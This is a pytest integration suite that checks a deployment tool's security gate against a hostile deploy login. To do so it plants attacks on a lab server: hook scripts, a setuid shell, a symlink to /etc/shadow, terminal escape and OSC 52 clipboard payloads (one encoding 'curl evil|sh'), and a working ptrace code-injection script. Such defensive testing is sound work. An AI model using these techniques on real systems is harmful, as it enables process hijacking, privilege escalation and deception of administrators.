"""The gate and ``fab status`` across the trust boundary, on a real server: what the deploy login writes is read as
data, never run, never printed raw (docs/security.md, "The gate, status and output").

One server made by hand from plain Debian (``handmade.py``: not the project's images), bootstrapped by the admin
login (``admin``, passwordless sudo), the example app deployed by ``deployer`` (no sudo), who then turns hostile
-- with its own SSH login, no root:

- it replaces the live venv's ``python`` and a console script with wrappers, and drops a ``.pth`` into the live
  site-packages, each writing ``id`` to a marker file when run; and leaves a half-built release so that a check
  fails and the diagnostics run. An admin's read-only gate (``--no-deploy``, under sudo) must fail the venv python
  check and the files check, report its diagnostics, and never run any of them: no marker may appear.
- it writes escape codes (screen clear, an OSC 8 hyperlink, a bidi override, a carriage return) and newlines into
  the live release's ``RELEASE.json``. ``fab status`` must print one line per release, none of those characters
  raw, and the values visibly escaped.
- (round 3) it makes the app answer the gate's GET with an endless body; hides a setuid file in a directory its
  owner may not list but others may; and attaches (``ptrace``) to the gate's tree reader to write a clean reply
  before the reader's own, after changing the live release's code. The gate ends, names the directory, and
  reports the change: nothing the deploy login does makes it wait without a bound or vouch for what it did not
  see.
"""

from __future__ import annotations

import json
import os
import shlex
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
from handmade import deployed_by_hand

from deploytests.examples import APPS
from deploytests.suite.lab import example_release

pytestmark = pytest.mark.integration
SUITE = Path(__file__).resolve().parents[2] / "deploytests" / "suite"
APP = APPS / "yourapplication"
MARKERS = "/tmp/dt-ran"  # a wrapper that runs leaves <MARKERS>-<what> with the output of `id`


@pytest.fixture(scope="module")
def lab(tmp_path_factory):
    """One hand-made server: bootstrapped by the admin, the example app deployed by ``deployer`` (module-scoped:
    made before ``pytester`` snapshots ``sys.modules``)."""
    with deployed_by_hand(tmp_path_factory.mktemp("gate-trust-key"), "trust") as box:
        yield box


def as_deployer(lab, script: str) -> str:
    """Run ``script`` with the deploy login's own SSH session (no sudo): what a hostile deployer can do."""
    c = lab.login()
    try:
        res = c.run(f"sh -ec {shlex.quote(script)}", hide=True, warn=True, in_stream=False)
    finally:
        c.close()
    assert res.ok, res.stdout + res.stderr
    return res.stdout


def markers(lab) -> str:
    out = lab.container.exec_run(["sh", "-c", f"for f in {MARKERS}-*; do [ -e \"$f\" ] && echo \"$f: $(cat $f)\"; "
                                              "done; true"]).output.decode()
    return out.strip()


def read_only_gate(pytester, lab, *args: str):
    """The built-in gate, read-only, as the admin login (sudo), on the lab's server; the app as deployed there
    (the example, deployed by ``deployer``)."""
    s = lab.server
    app = example_release(pytester.path, "1.0")
    with (app / "deploy.toml").open("a") as f:  # (a build the gate must never run: it deploys nothing)
        f.write(f'deploy_user = "deployer"\nbuild = ["id > {pytester.path}/built-by-the-gate"]\n')
    pytester.makefile(".toml", targets=f"""
        [targets.ro]
        hosts = ["{s.user}@{s.host}:{s.port}"]
        identity_file = "{s.key_filename}"
        known_hosts = "{s.known_hosts}"
        base_url = "{s.base_url}"
        deploy = false
    """)
    return pytester.runpytest_subprocess(str(SUITE / "test_promises.py"), "--target", "ro", "--app", str(app),
                                         "--targets-file", str(pytester.path / "targets.toml"), "-p",
                                         "no:cacheprovider", "-rA", *args)


def test_swapped_interpreter_console_script_and_pth_fail_the_gate_and_never_run(pytester, lab, monkeypatch):
    # the runner that deployed: a run that deploys nothing packs nothing, it compares with the artifact it packed
    monkeypatch.setenv("XDG_CACHE_HOME", str(lab.artifact("yourapplication").path.parents[2]))
    cfg = lab.config()
    venv = f"{cfg.root}/releases/{lab.release}/venv"
    site = f"{venv}/lib/python{lab.stack.python_version}/site-packages"
    wrapper = "#!/bin/sh\nid > {m}-{what}; chmod 666 {m}-{what}\nexec /usr/bin/python3 \"$@\"\n"
    as_deployer(lab, f"""
        rm {venv}/bin/python
        printf '%s' {shlex.quote(wrapper.format(m=MARKERS, what='python'))} > {venv}/bin/python
        chmod 755 {venv}/bin/python
        printf '%s' {shlex.quote(wrapper.format(m=MARKERS, what='flask'))} > {venv}/bin/flask
        echo "import os; os.system('id > {MARKERS}-pth')" > {site}/zz_hook.pth
        mkdir {cfg.root}/releases/29990101T000000Z-halfbuilt
    """)
    junit = pytester.path / "report.xml"
    result = read_only_gate(pytester, lab, "--no-deploy", f"--junitxml={junit}", "-v")  # -v: the diagnostics
    out = result.stdout.str()
    assert markers(lab) == "", f"the gate ran a program of the app's tree:\n{markers(lab)}"
    assert not (pytester.path / "built-by-the-gate").exists(), "the read-only gate ran the project's build"
    failed = {line.split("::")[1].split("[")[0] for line in out.splitlines() if line.startswith("FAILED ")}
    assert {"test_venv_python_is_the_stacks_interpreter", "test_installed_files_match_artifact",
            "test_releases_pruned_and_complete"} <= failed, out[-4000:]
    assert "venv/bin/python is a regular file" in out and "not from the artifact: lib/" in out, out[-4000:]
    assert "changed: bin/flask" in out, out[-4000:]  # the console script, compared with the artifact's
    # the diagnostics ran (read, not run): the installed distributions come from METADATA
    assert "installed distributions (live venv, read from METADATA)" in out and "Flask==" in out, out[-4000:]
    assert "29990101T000000Z-halfbuilt" in out


def test_release_json_escapes_reach_the_terminal_as_visible_text(lab, tmp_path):
    cfg = lab.config()
    record = f"{cfg.root}/releases/{lab.release}/RELEASE.json"
    meta = json.loads(lab.sudo(f"cat {record}"))
    meta["version"] = "1.0\x1b[2J\x1b[H\r[ssh://appuser@web-1] * 29990101T000000Z-forged  9.9\nFORGED"
    meta["deployed_by"] = "\x1b]8;;https://evil.example/\x07root@vm\x1b]8;;\x07 \u202egnp.exe\x9b31m"
    meta["created_at"] = {"not": ["a", "date"]}  # any JSON value: shown as one line, never a traceback
    as_deployer(lab, f"cat > {record} <<'EOF'\n{json.dumps(meta)}\nEOF")
    s = lab.server
    (tmp_path / "fabfile.py").write_text("from deploytests.tasks import *  # noqa: F401,F403\n")
    env = dict(os.environ, DEPLOYTESTS_KNOWN_HOSTS=str(s.known_hosts), DEPLOYTESTS_APP=str(APP))
    fab = str(Path(sys.executable).with_name("fab"))  # this environment's, on PATH or not
    run = subprocess.run([fab, "-H", f"{s.user}@{s.host}:{s.port}", "-i", str(s.key_filename), "status"],
                         cwd=tmp_path, env=env, capture_output=True, text=True, timeout=120)
    out = run.stdout
    assert run.returncode == 0, out + run.stderr
    raw = [ch for ch in "\x1b\x07\r\x9b\u202e" if ch in out + run.stderr]
    assert not raw, f"raw control characters {raw!r} reached the terminal:\n{out!r}"
    host = f"[{s.user}@{s.host}:{s.port}]"
    assert all(line.startswith(host) for line in out.splitlines()), out  # no line the server made up
    releases = [line for line in out.splitlines() if line.startswith((f"{host} * ", f"{host}   "))]
    assert len(releases) == 1 and releases[0].startswith(f"{host} * {lab.release}"), out
    assert "1.0\\x1b[2J\\x1b[H\\x0d[ssh://appuser@web-1] * 29990101T000000Z-forged  9.9\\nFORGED" in out, out
    assert "\\x1b]8;;https://evil.example/\\x07root@vm" in out and "\\u202egnp.exe\\x9b31m" in out, out
    assert '{"not": ["a", "date"]}' in out, out


def test_a_link_the_deploy_login_plants_in_the_tree_is_never_followed_as_root(pytester, lab):
    """The deploy login swaps ``shared/`` for a link to a directory only root may list (``/root/secretstuff``, 0700,
    holding a config and a data dir). The probe stat'ed the tree's paths as root, and ``lstat`` follows a link in
    the middle of a path: the admin's gate printed ``shared/application.cfg: regular file 0600 root:root``, which
    the deploy login itself cannot see. Class: a link followed by a more trusted reader. The tree's paths are
    stat'ed by the tree's reader (the deploy user): the gate fails on the link and says nothing of what is behind."""
    cfg = lab.config()
    lab.container.exec_run(["sh", "-ec", "mkdir -m 700 /root/secretstuff /root/secretstuff/data; "
                                         "echo 'SECRET = 1' > /root/secretstuff/application.cfg; "
                                         "chmod 600 /root/secretstuff/application.cfg"])
    as_deployer(lab, f"mv {cfg.root}/shared {cfg.root}/shared.real && ln -s /root/secretstuff {cfg.root}/shared")
    try:
        out = read_only_gate(pytester, lab, "--no-deploy").stdout.str()
    finally:
        as_deployer(lab, f"rm {cfg.root}/shared && mv {cfg.root}/shared.real {cfg.root}/shared")
    assert "FAILED" in out and "shared" in out, out[-4000:]  # the link itself is a finding
    behind = [line for line in out.splitlines() if "root:root" in line and "/shared/" in line]
    assert not behind, "the gate described what lies behind the deploy login's link:\n" + "\n".join(behind)


def test_the_gates_root_program_reads_nothing_the_deploy_login_planted_and_bounds_its_walks(lab):
    """The deploy login plants in its tree what a reader can trip on: a fifo, a link to /etc/shadow, a 2 GiB
    sparse file, a release directory whose name carries a newline and a forged report line, and a directory
    chain deeper than the reader's walk goes. Class: root reading, following or parsing what a less trusted
    party wrote. The root collector takes names only and reads nothing below the tree's top (its reply lists
    every path it looked at); the tree reader, run as the deploy user, neither hangs on the fifo nor follows
    the link, reads the huge file bounded, and says in one line that its walk hit the depth bound."""
    from deploytests.verify import facts as F
    from deploytests.verify import reader

    cfg = lab.config()
    site = f"{cfg.root}/releases/{lab.release}/venv/lib/python{lab.stack.python_version}/site-packages"
    deep = "/".join(["d"] * (reader.DEPTH + 6))
    forged = "29990101T000000Z-x\n[appuser@web-1] * forged"
    as_deployer(lab, f"""
        mkfifo {site}/zz.fifo
        ln -s /etc/shadow {site}/zz_shadow.py
        truncate -s 2G {site}/zz_huge.bin
        mkdir -p {shlex.quote(cfg.root + '/releases/' + forged)} {cfg.root}/shared/{deep}
    """)
    try:
        args = F.probe_args(cfg, "deployer", lab.server.user, lab.stack)
        res = F.run_programs(lab.server, args, lab.stack.python)
        raw = F.read_root(res)
        touched = [p for p in list(raw["files"]) + list(raw["dirs"]) if p.startswith(cfg.root)]
        assert raw["uid"] == 0 and touched == [cfg.root], f"root looked into the deploy login's tree: {touched}"
        assert not any("shadow" in p for p in raw["files"] if p.startswith(cfg.root))
        tree = F.read_tree(res)
        assert tree["user"] == "deployer"  # the reader ran as the deploy user (root became it), not root
        facts = F.gather(lab.server, cfg, deploy_user="deployer")
        assert facts.error == "", facts.error
        why = facts["errors"]["tree"]
        assert f"deeper than {reader.DEPTH} levels" in why and "\n" not in why, why
        assert "29990101T000000Z-x\\n[appuser@web-1] * forged" in facts.tree["incomplete"]  # one line, shown
        hashes = facts.live["hashes"]
        assert any(k.endswith("zz_huge.bin") for k in hashes) and not any(k.endswith(("zz.fifo", "zz_shadow.py"))
                                                                           for k in hashes), sorted(hashes)[-5:]
    finally:
        as_deployer(lab, f"rm -rf {site}/zz.fifo {site}/zz_shadow.py {site}/zz_huge.bin "
                         f"{shlex.quote(cfg.root + '/releases/' + forged)} {cfg.root}/shared/d")


# The app's answer to the gate's GET /: 200 and 1 MiB chunks, forever (appended to application.wsgi).
ENDLESS = """
_inner = application
def application(environ, start_response):
    if environ.get("PATH_INFO") != "/":
        return _inner(environ, start_response)
    start_response("200 OK", [("Content-Type", "text/plain")])
    def body():
        while True:
            yield b"x" * (1 << 20)
    return body()
"""


def test_an_endless_answer_from_the_app_is_cut_and_the_gate_ends(lab):
    """The app (the deploy login's code) answered the gate's ``GET /`` with an endless body: the admin's read-only
    gate never ended, 9.8 GB resident after 3 minutes (``requests`` read the whole body; ``timeout`` bounds each
    read only). Class: a wait bounded per read, not per answer, on something the less trusted side paces (its
    trickled bodies and headers and a gzip bomb: tests/unit/test_http_client.py). The answer is cut at 1 MiB."""
    from deploytests.verify import facts as F

    cfg = lab.config()
    wsgi = f"{cfg.root}/application.wsgi"
    as_deployer(lab, f"cp {wsgi} ~/wsgi.orig && printf '%s' {shlex.quote(ENDLESS)} >> {wsgi} && touch {wsgi}")
    try:
        facts = F.gather(lab.server, cfg, deploy_user="deployer")
    finally:
        as_deployer(lab, f"cat ~/wsgi.orig > {wsgi} && touch {wsgi}")
    home = facts.responses["/"]
    assert not isinstance(home, str), home
    assert home.status_code == 200 and len(home.content) == 1 << 20 and home.cut


def test_a_directory_its_owner_cannot_list_is_named_never_skipped(lab):
    """The deploy login hid a setuid copy of ``sh`` in ``releases/<live>/hidden``, mode ``d--x---r-x``: the app user
    lists it and runs the file (euid deployer), the tree reader -- the owner -- may not list it, and
    ``os.walk`` skipped it in silence: test_no_setuid_or_world_writable_in_app_tree passed. Class: a walk that
    skips what it cannot read. The directory is named, and the gate's first check fails on it."""
    from deploytests.verify import facts as F

    cfg = lab.config()
    hidden = f"{cfg.root}/releases/{lab.release}/hidden"
    as_deployer(lab, f"mkdir {hidden} && cp /bin/sh {hidden}/sh && chmod 4755 {hidden}/sh && chmod 0105 {hidden}")
    try:
        ran = lab.container.exec_run(["su", "-s", "/bin/sh", cfg.app_user, "-c", f"{hidden}/sh -p -c 'id -un'"])
        facts = F.gather(lab.server, cfg, deploy_user="deployer")
    finally:
        as_deployer(lab, f"chmod 0755 {hidden} && rm -rf {hidden}")
    assert ran.output.decode().split() == ["deployer"], ran.output  # what it hid: a way up for the app user
    assert f"{hidden}: not listed (Permission denied) (0105 deployer:deployer); not looked at" in \
        facts["errors"]["tree"], facts["errors"]  # (its mode and owner: M2, the line leads to the cause)


# The deploy login's injector: for each program of the gate that starts, attach (ptrace: same uid, and a program
# sudo -u execs is dumpable), map a page, write the clean reply into it and make the program write(1, ...) it.
INJECTOR = r"""
import ctypes, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = ctypes.c_long
class Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in ("r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi "
                                                  "orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs").split()]
def call(pid, saved, gadget, nr, *args):
    r = Regs.from_buffer_copy(saved)
    r.rax, r.orig_rax, r.rip = nr, 2**64 - 1, gadget
    for name, v in zip(("rdi", "rsi", "rdx", "r10", "r8", "r9"), args):
        setattr(r, name, v)
    libc.ptrace(13, pid, None, ctypes.byref(r)); libc.ptrace(9, pid, None, None); os.waitpid(pid, 0x40000000)
    out = Regs(); libc.ptrace(12, pid, None, ctypes.byref(out))
    return out.rax
def forge(pid, line):
    if libc.ptrace(0x4206, pid, None, None) != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    libc.ptrace(0x4207, pid, None, None); os.waitpid(pid, 0x40000000)
    saved = Regs(); libc.ptrace(12, pid, None, ctypes.byref(saved))
    with open("/proc/%d/mem" % pid, "r+b", buffering=0) as mem:
        for ln in open("/proc/%d/maps" % pid):
            f = ln.split()
            if "r-xp" in f[1]:
                lo, hi = (int(x, 16) for x in f[0].split("-"))
                mem.seek(lo); i = mem.read(hi - lo).find(b"\x0f\x05")
                if i >= 0:
                    gadget = lo + i; break
        addr = call(pid, bytes(saved), gadget, 9, 0, len(line) + 4096, 3, 0x22, 2**64 - 1, 0)
        mem.seek(addr); mem.write(line)
        n = call(pid, bytes(saved), gadget, 1, 1, addr, len(line))
    libc.ptrace(13, pid, None, ctypes.byref(saved)); libc.ptrace(17, pid, None, None)
    return n
line, done, t0 = open(sys.argv[1], "rb").read(), set(), time.time()
log = open(os.path.expanduser("~/inject.log"), "a", buffering=1)
while time.time() - t0 < 50:
    for pid in [p for p in os.listdir("/proc") if p.isdigit() and p not in done]:
        try:
            cmd = open("/proc/%s/cmdline" % pid, "rb").read()
        except OSError:
            continue
        if b"deploytests-" not in cmd or not cmd.startswith(b"/usr/bin/python"):
            continue
        try:  # the deploy user's (from its start under sudo -u; or once root's program became it) and loaded
            if os.stat("/proc/" + pid).st_uid != os.getuid():
                continue
            ready = "libc" in open("/proc/%s/maps" % pid).read()
        except PermissionError:
            ready = True  # the deploy user's, yet closed to it: try all the same, and say what came of it
        except OSError:
            continue
        if not ready:
            continue
        done.add(pid)
        errors = {}
        for attempt in range(20):
            try:
                log.write("pid %s: wrote %s bytes\n" % (pid, forge(int(pid), line)))
                break
            except Exception as e:
                errors[repr(e)] = errors.get(repr(e), 0) + 1
                time.sleep(0.005)
        else:
            log.write("pid %s: %r\n" % (pid, errors))
    time.sleep(0.001)
"""


def test_the_deploy_login_cannot_attach_to_the_tree_reader_and_forge_its_reply(lab):
    """The tree reader ran under ``sudo -u deployer``, which execs it: a dumpable process of the deploy user. The
    deploy login, from its own live SSH session, attached to it with ``ptrace`` and made it write a clean reply
    before its own: with a backdoor in the live release's code, the admin's read-only gate passed (rc 0, on this
    hand-made server). Class: a less trusted party attaching to
    the more trusted side's program (``pidfd_getfd`` of its stdout is another member). The reader now runs in
    the root collector's process once it became the deploy user (``collect_root.become``): the uid change left
    it non-dumpable, the attach is refused, and the reply reports the change."""
    import io

    from deploytests.verify import facts as F

    cfg = lab.config()
    rel = f"lib/python{lab.stack.python_version}/site-packages/yourapplication/__init__.py"
    args = F.probe_args(cfg, "deployer", lab.server.user, lab.stack)
    clean = F.run_programs(lab.server, args, lab.stack.python)
    line = next(ln for ln in clean.stdout.splitlines() if ln.startswith(F._reader.MARK))
    c = lab.login()
    try:
        c.put(io.BytesIO((line + "\n").encode()), "clean.line")
        c.put(io.BytesIO(INJECTOR.encode()), "inject.py")
    finally:
        c.close()
    def inject():
        c = lab.login()
        try:
            c.run("rm -f ~/inject.log; python3 ~/inject.py ~/clean.line", hide=True, warn=True, in_stream=False)
        finally:
            c.close()

    session = threading.Thread(target=inject, daemon=True)
    session.start()  # inside the deploy login's own live SSH session: the gate accepts its processes
    as_deployer(lab, f"echo '# the backdoor' >> {cfg.root}/releases/{lab.release}/venv/{rel}")
    try:
        time.sleep(1)
        res = F.run_programs(lab.server, args, lab.stack.python)
        time.sleep(5)  # the injector says what it got
    finally:
        as_deployer(lab, "pkill -u deployer -f 'python3 [/].*inject[.]py'; rm -f ~/clean.line ~/inject.py; true")
        as_deployer(lab, f"sed -i '$d' {cfg.root}/releases/{lab.release}/venv/{rel}")
        session.join(60)
    log = lab.container.exec_run(["cat", "/home/deployer/inject.log"]).output.decode()
    assert "wrote" not in log and "PermissionError" in log, log
    assert res.stdout.count(F._reader.MARK) == 1
    found, before = (F.read_tree(r)["tree"]["live"]["hashes"][rel] for r in (res, clean))
    assert found != before  # the reader's own reply: the changed file


def test_a_name_that_is_not_utf8_reaches_the_terminal_escaped(pytester, lab):
    """The deploy login names a file of the live venv with bytes that are not UTF-8 (``0x9b``: an 8-bit CSI where a
    terminal takes C1 controls). The tree reader's reply carries it as a lone surrogate, which the sanitiser let
    through (it is not a character it knows); printed, it went out as the raw byte, and the gate's output was not
    UTF-8. Class: text the sanitiser passes because it is no character: a lone surrogate is escaped like a
    control (``\\udc9b``)."""
    import io

    cfg = lab.config()
    site = f"{cfg.root}/releases/{lab.release}/venv/lib/python{lab.stack.python_version}/site-packages"
    c = lab.login()
    try:
        c.put(io.BytesIO(b"import sys\nopen(sys.argv[1].encode() + b'/n\\x9b31mRED.py', 'w').write('x')\n"), "mk.py")
    finally:
        c.close()
    as_deployer(lab, f"python3 ~/mk.py {site}")
    try:
        out = read_only_gate(pytester, lab, "--no-deploy").stdout.str()
    finally:
        as_deployer(lab, f"rm -f {site}/n*RED.py ~/mk.py")
    assert "site-packages/n\\udc9b31mRED.py" in out, out[-3000:]


def test_a_crontab_padded_past_the_collectors_bound_is_a_finding(pytester, lab):
    """The deploy login padded its crontab past 64 KiB (eight lines of 9000 characters; ``crontab`` caps lines, not
    bytes) and put its job last: the collector did not send the file (it sends a file whole or not at all), the
    closed world read no job in it, and test_no_unaccounted_scheduled_jobs passed while cron ran the job every
    minute as ``deployer``. Class: a file of a closed-world mechanism that was not read, taken as empty. Another
    member: a run-parts script that is not root's (the admin ``chown``ed it), which root does not read either."""
    lab.container.exec_run(["sh", "-c", "DEBIAN_FRONTEND=noninteractive apt-get install -y -qq cron >/dev/null 2>&1; "
                                        "printf '#!/bin/sh\\ntrue\\n' > /etc/cron.daily/zz-backup; "
                                        "chmod 755 /etc/cron.daily/zz-backup; "
                                        "chown deployer /etc/cron.daily/zz-backup"])
    pad = "python3 -c \"print(('#' + 'p' * 9000 + chr(10)) * 8 + '* * * * * /home/deployer/job')\" | crontab -"
    as_deployer(lab, pad)
    try:
        out = read_only_gate(pytester, lab, "--no-deploy").stdout.str()
    finally:
        as_deployer(lab, "crontab -r")
        lab.container.exec_run(["rm", "-f", "/etc/cron.daily/zz-backup"])
    assert any(ln.startswith("FAILED ") and "::test_no_unaccounted_scheduled_jobs" in ln for ln in out.splitlines()), \
        out[-3000:]
    assert "/var/spool/cron/crontabs/deployer: larger than the 65536 bytes it may send: not read" in out, out[-3000:]
    assert "/etc/cron.daily/zz-backup: not a regular file of root's" in out, out[-3000:]


def test_a_key_no_one_allowed_that_opens_the_deploy_or_the_admins_login_fails_the_gate(lab):
    """A former colleague's key left in the deploy login's authorized_keys passed the gate: its keys were counted by
    their holder (who may log in), not by their key. Class: a grant the gate counts by its holder but not by its
    key. Deny by default: every key that opens the deploy login, the gate's login (sudo) or root is the one the
    gate logged in with, or allowed in writing (``allow_keys``, ``"LOGIN SHA256:FP"`` as ``ssh-keygen -lf``
    prints it). Other members: a ``from=`` key, a ``cert-authority`` line in the admin's own file, a key in a file
    ``AuthorizedKeysFile`` names."""
    import dataclasses

    from deploytests.allowances import Allowances
    from deploytests.verify import facts as F
    from deploytests.verify.promises import Expected, key_grants

    cfg = lab.config()

    def lines(allow=()):
        facts = F.gather(lab.server, cfg, deploy_user="deployer")
        exp = Expected.from_config(cfg, "deployer", stack=facts.stack)
        return key_grants(facts, dataclasses.replace(exp, allow=Allowances(keys=allow)), facts.raw, False), facts

    def sh(script):
        res = lab.container.exec_run(["sh", "-ec", script])
        assert res.exit_code == 0, res.output
        return res.output.decode()

    clean, facts = lines()
    assert clean == [] and facts["runner_key"], (clean, facts["runner_key"])  # only the gate's own key
    fps = {}
    for who in ("bob", "ops-ca", "carol"):
        sh(f"rm -f /tmp/{who}*; ssh-keygen -q -t ed25519 -N '' -C {who}@old-laptop -f /tmp/{who}")
        fps[who] = sh(f"ssh-keygen -lf /tmp/{who}.pub").split()[1]  # (what an admin copies: ssh-keygen's)
    sh("cp -p /home/deployer/.ssh/authorized_keys /tmp/dk && cp -p /home/admin/.ssh/authorized_keys /tmp/ak && "
       "(printf 'from=\"10.9.0.0/16\" '; cat /tmp/bob.pub) >> /home/deployer/.ssh/authorized_keys && "
       "(printf 'cert-authority '; cat /tmp/ops-ca.pub) >> /home/admin/.ssh/authorized_keys && "
       "mkdir -p /etc/ssh/keys && cp /tmp/carol.pub /etc/ssh/keys/admin && chmod 0644 /etc/ssh/keys/admin && "
       "echo 'AuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys/%u' > /etc/ssh/sshd_config.d/zz-keys.conf")
    try:
        found, _ = lines()
        allowed, _ = lines((f"deployer {fps['bob']}", f"admin {fps['ops-ca']}", f"admin {fps['carol']}"))
    finally:
        sh("cp -p /tmp/dk /home/deployer/.ssh/authorized_keys && cp -p /tmp/ak /home/admin/.ssh/authorized_keys && "
           "rm -rf /etc/ssh/keys /etc/ssh/sshd_config.d/zz-keys.conf /tmp/bob* /tmp/ops-ca* /tmp/carol*")
    assert len(found) == 2, found  # one line per login
    deploy = next(ln for ln in found if ln.startswith("deployer: "))
    assert f"~deployer/.ssh/authorized_keys:2 ssh-ed25519 {fps['bob']} bob@old-laptop [from=\"10.9.0.0/16\"]: " \
           "whoever holds one logs in as deployer, who deploys the app's code" in deploy and \
           f'allow_keys = ["deployer {fps["bob"]}"]' in deploy, deploy
    admin = next(ln for ln in found if ln.startswith("admin: "))
    assert f"/home/admin/.ssh/authorized_keys:2 ssh-ed25519 {fps['ops-ca']} ops-ca@old-laptop [cert-authority]" \
           in admin and f"/etc/ssh/keys/admin:1 ssh-ed25519 {fps['carol']} carol@old-laptop" in admin and \
           "logs in as admin, the gate's login, who becomes root (sudo)" in admin, admin
    assert allowed == [], allowed
    assert lines()[0] == []  # put back: clean again
    # a key behind a word a looser reading took for the line's key: the gate's own inside from="*,x ... y" (sshd
    # lets that key in as deployer, tried by hand on this image); then the whole file behind a link in ~/.ssh
    gate = sh("head -1 /home/deployer/.ssh/authorized_keys").split()
    sh("rm -f /tmp/bob*; ssh-keygen -q -t ed25519 -N '' -C bob@old-laptop -f /tmp/bob && "
       "cp -p /home/deployer/.ssh/authorized_keys /tmp/dk && "
       f"(printf 'from=\"*,x {gate[0]} {gate[1]} y\" '; cat /tmp/bob.pub) >> /home/deployer/.ssh/authorized_keys")
    bob = sh("ssh-keygen -lf /tmp/bob.pub").split()[1]
    try:
        hidden, _ = lines()
        sh("cd /home/deployer/.ssh && mv authorized_keys keys.txt && ln -s keys.txt authorized_keys")
        linked = F.gather(lab.server, cfg, deploy_user="deployer")
    finally:
        sh("cd /home/deployer/.ssh && rm -f authorized_keys keys.txt /tmp/bob* && cp -p /tmp/dk authorized_keys")
    assert len(hidden) == 1 and f"~deployer/.ssh/authorized_keys:2 ssh-ed25519 {bob} bob@old-laptop [from=" \
        in hidden[0], hidden
    assert "~deployer/.ssh/authorized_keys: Too many levels of symbolic links: not read" in \
        str((linked.get("errors") or {}).get("login_keys")), linked.get("errors")
    assert lines()[0] == []


# A listener that makes its socket again every 2 ms (SO_REUSEPORT: the port never closes), argv: port, tcp|udp.
CHURN = """
import socket, sys, time
port, kind, prev = int(sys.argv[1]), sys.argv[2], None
while True:
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if kind == "tcp" else socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    s.bind(("0.0.0.0", port))
    if kind == "tcp":
        s.listen(8)
    if prev is not None:
        prev.close()
    prev = s
    time.sleep(0.002)
"""
HOSTILE = "x\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J\r\n- pid 1 (root) nothing else to see"  # OSC 52: the clipboard


def _checked(lab, *rules: str) -> dict:
    from deploytests.verify import facts as F
    from deploytests.verify.promises import Expected, NotApplicable, verify

    cfg = lab.config()
    facts = F.gather(lab.server, cfg, deploy_user="deployer")
    assert facts.error == "", facts.error
    exp, said = Expected.from_config(cfg, "deployer", stack=facts.stack), {}
    for rule in rules:
        try:
            verify(rule, facts, exp)
            said[rule] = "pass"
        except (AssertionError, NotApplicable) as e:
            said[rule] = str(e)
    return said


def test_a_listener_replacing_its_socket_faster_than_roots_walk_fails_the_gate(lab):
    """Class: a listener of a less trusted party that is never in both reads of the sockets. The deploy login's
    listener made its socket again every 2 ms (the port never closed): the login collector's read listed one,
    root's walk of /proc saw the process hold another, root's read after the walk listed a third, and "came or
    went during the walk" skipped it: test_every_listener_is_accounted_for passed with 0.0.0.0:9999 open.
    A socket the deploy login or the app user owns is judged whoever holds it. Other member: a bound UDP socket."""
    for port, kind in (("9999", "tcp"), ("9997", "udp")):
        lab.container.exec_run(["sh", "-c", f'echo $$ > /tmp/churn-{kind}.pid; exec python3 -c "$0" {port} {kind}',
                                CHURN], user="deployer", detach=True)
    try:
        time.sleep(1)
        said = _checked(lab, "cw_listen")["cw_listen"]
    finally:
        lab.container.exec_run(["sh", "-c", "kill $(cat /tmp/churn-tcp.pid) $(cat /tmp/churn-udp.pid)"],
                               user="deployer")
    assert "TCP *:9999 listens: " in said and "UDP *:9997 listens: " in said, said


def test_a_name_the_deploy_login_chose_reaches_the_admins_terminal_as_visible_text(lab):
    """Class: server text a rule quotes from the raw snapshot printed as it is. The deploy login names a directory
    of its tree with an OSC 52 sequence (a write to the admin's clipboard) and a newline; a root process works
    there (a job, a tmux pane): cw_processes printed its working directory raw, the clipboard sequence and a
    line of its own. Every rule's message is made safe where it leaves verify; the process rule quotes the name
    as one line."""
    where = "/var/www/yourapplication/shared/" + HOSTILE
    assert lab.container.exec_run(["mkdir", "-p", where], user="deployer").exit_code == 0
    lab.container.exec_run(["sh", "-c", 'echo $$ > /tmp/in-tree.pid; cd "$D" && exec sleep 600'],
                           environment={"D": where}, detach=True)
    try:
        time.sleep(1)
        said = _checked(lab, "cw_processes")["cw_processes"]
    finally:
        lab.container.exec_run(["sh", "-c", "kill $(cat /tmp/in-tree.pid)"])
        lab.container.exec_run(["rm", "-rf", where])
    assert "its working directory is /var/www/yourapplication/shared/x\\x1b]52;c;" in said, said
    assert not set(said) & {"\x1b", "\x07", "\r"} and "\n- pid 1 (root) nothing" not in said, said
